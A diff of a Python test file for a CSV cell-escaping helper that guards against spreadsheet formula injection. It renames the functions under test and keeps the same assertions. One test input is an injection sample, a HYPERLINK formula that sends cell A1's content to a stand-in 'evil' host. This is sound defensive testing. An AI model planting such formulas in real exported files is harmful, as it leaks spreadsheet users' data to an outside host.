@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from include.common.csv_cells import defuse, restore
+from include.common.csv_cells import escape_cell, unescape_cell
 
 FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")
 
@@ -15,18 +15,18 @@ FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")
 @pytest.mark.parametrize("begin", FORMULAS)
 def test_what_begins_like_a_formula_begins_with_an_apostrophe(begin: str) -> None:
     cell = f'{begin}HYPERLINK("http://evil?"&A1)'
-    assert defuse(cell) == f"'{cell}"
+    assert escape_cell(cell) == f"'{cell}"
 
 
 @pytest.mark.parametrize("cell", ["a=b", "week/-1.jpg", "'tis", "", 0.5, -1, "-0.000000", "+12"])
 def test_numbers_and_other_texts_are_written_as_they_are(cell: object) -> None:
-    assert defuse(cell) == cell
+    assert escape_cell(cell) == cell
 
 
 @given(st.text(st.sampled_from(["'", "a", "1", ".", ",", '"', *FORMULAS])))
 def test_every_text_is_read_back_and_none_is_a_formula(text: str) -> None:
     written = io.StringIO()
-    csv.writer(written).writerow([defuse(text), "end"])
+    csv.writer(written).writerow([escape_cell(text), "end"])
     (read, _) = next(csv.reader(io.StringIO(written.getvalue(), newline="")))
-    assert restore(read) == text
+    assert unescape_cell(read) == text
     assert not read.startswith(FORMULAS) or read.lstrip("+-").replace(".", "", 1).isdecimal()
